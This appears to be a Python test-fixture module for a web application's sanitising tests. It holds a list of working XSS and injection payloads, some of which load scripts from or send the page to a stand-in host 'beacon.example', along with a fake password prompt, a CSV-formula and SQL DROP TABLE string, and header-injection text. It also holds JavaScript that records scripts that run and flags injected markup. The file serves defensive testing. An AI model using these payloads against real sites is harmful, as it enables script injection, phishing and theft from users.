"""What people send to break a page, written for these tests; and a trap that hears whatever runs."""

from __future__ import annotations

_RUN = "alert('ran')"
_AWAY = "https://beacon.example/x"

HOSTILE: tuple[str, ...] = (
    # Elements that run something.
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt src={_AWAY}.js></sCrIpT>",
    f"<script type=module>import '{_AWAY}.mjs'</script>",
    f'<script type="importmap">{{"imports": {{"/desk/static/row.js": "{_AWAY}"}}}}</script>',
    f"<img src=x onerror={_RUN}>",
    f'<img src="{_AWAY}.png" alt="a picture">',
    f"<image href=x onerror={_RUN}>",
    f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x></svg>",
    f"<svg><script href=data:,{_RUN}></script></svg>",
    f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<object data=javascript:{_RUN}></object><embed src=javascript:{_RUN}>",
    f"<video><source onerror={_RUN}></video><audio src=x onerror={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>more</summary></details>",
    f"<input autofocus onfocus={_RUN}><select autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}><marquee onstart={_RUN}>hello",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<template><img src=x onerror={_RUN}></template><noscript><img src=x onerror={_RUN}>",
    # Elements that change the page or send it somewhere.
    f'<base href="{_AWAY}/"><link rel=stylesheet href="{_AWAY}.css">',
    f'<meta http-equiv=refresh content="0;url={_AWAY}">',
    f"<style>* {{ display: none; background: url({_AWAY}) }}</style>",
    f'<form action="{_AWAY}"><button>Sign in again</button></form>',
    '</li></ul></main><dialog open><input name=password type=password placeholder="Your password">',
    "<div style=position:fixed;inset:0>You have been signed out</div>",
    # Ways out of an attribute, a text box, a comment, a script's data.
    f'"><img src=x onerror={_RUN}>',
    f"' onmouseover={_RUN} x='",
    f'" autofocus onfocus="{_RUN}',
    f"</textarea><script>{_RUN}</script>",
    f"</title></style></noscript></template><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "`;alert('ran');`${alert('ran')}",
    # Addresses that run.
    f"javascript:{_RUN}//https://nettly.example",
    f"  jAvAsCrIpT&colon;{_RUN}",
    f"[press here](javascript:{_RUN}) and [here](https://nettly.example/\" onclick=\"{_RUN})",
    f"[here](data:text/html,<script>{_RUN}</script>) `<b>` **<img src=x onerror={_RUN}>**",
    f"data:text/html;base64,PHNjcmlwdD4= vbscript:{_RUN}",
    f"https://nettly.example@beacon.example/<script>{_RUN}</script>?q=\"'><svg onload={_RUN}>",
    # Templates, formats and replacements.
    "{{ 7 * 7 }} {{customer.name}} {% raw %} {# no #} ${7*7} #{7*7} <%= 7*7 %>",
    "{name} {number} {n} %(name)s %s {0} $& $1 $` __proto__ constructor",
    "=HYPERLINK(\"https://beacon.example\") @SUM(1) +1 -1 '; DROP TABLE cases; --",
    "line one\r\nSet-Cookie: a=b\r\n\r\n<b>line two</b>\u2028line three\u0085line four",
    # Letters that turn, stack or hide others.
    "\u202egnp.eruticp\u202c exe.\u202dpicture\u202c \u2066isolated\u2069 \u2067turned",
    "\u202e\u202e\u202e never closed",
    "\u0645\u0631\u062d\u0628\u0627 NT-10427 \u05e9\u05dc\u05d5\u05dd (1) \u200f!\u200e",
    "Z\u0338\u0322\u030d\u0311" * 60 + "algo",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \ufdfd \U000e0041 \ufeff\u200b\u2060 soft\u00adhyphen",
    "Unbroken" * 1000,
    "<b>\u00e9 " * 1333,
    "\n" * 200 + "after many lines",
)  # fmt: skip

TRAP = """
window.ran = [];
for (const name of ["alert", "confirm", "prompt", "print"]) {
  window[name] = (...said) => void window.ran.push(`${name}(${said})`);
}
document.addEventListener("securitypolicyviolation", ({violatedDirective, blockedURI, sample}) =>
  window.ran.push(`${violatedDirective} stopped ${blockedURI} ${sample}`));
addEventListener("error", ({message}) => message && window.ran.push(`error: ${message}`));
addEventListener("unhandledrejection", ({reason}) => window.ran.push(`rejected: ${reason}`));
"""
"""Put into a page before its own scripts; what ran, or was stopped on its way, is in `window.ran`."""

STRANGE = """
() => {
  const own = (element) => element.nonce || element.closest("svg.icon, .brand svg, symbol");
  const kinds = "script, style, link, iframe, object, embed, base, meta[http-equiv], math, marquee, video";
  const strange = [...document.querySelectorAll(kinds)].filter((each) =>
    !own(each) && each.rel !== "icon" && !(each.href || each.src || "").startsWith(location.origin));
  const does = ({name}) => name.startsWith("on") || name === "style";
  const attributes = [...document.querySelectorAll("*")].flatMap((each) =>
    [...each.attributes].filter(does).map(({name}) => [each, name]));
  const addresses = [...document.querySelectorAll("[href], [action], [src], [formaction]")].filter((each) =>
    ["href", "action", "src", "formaction"].some((name) =>
      /^\\s*(javascript|data|vbscript|blob):/i.test(each.getAttribute(name) || ""))
    && each.rel !== "icon");
  return [
    ...window.ran,
    ...strange.map((each) => `an element: ${each.outerHTML.slice(0, 200)}`),
    ...attributes.map(([each, name]) => `an attribute: ${name} of ${each.outerHTML.slice(0, 200)}`),
    ...addresses.map((each) => `an address: ${each.outerHTML.slice(0, 200)}`),
  ];
}
"""
"""What has run in a page, and what stands in it that none of our own templates and scripts put there."""
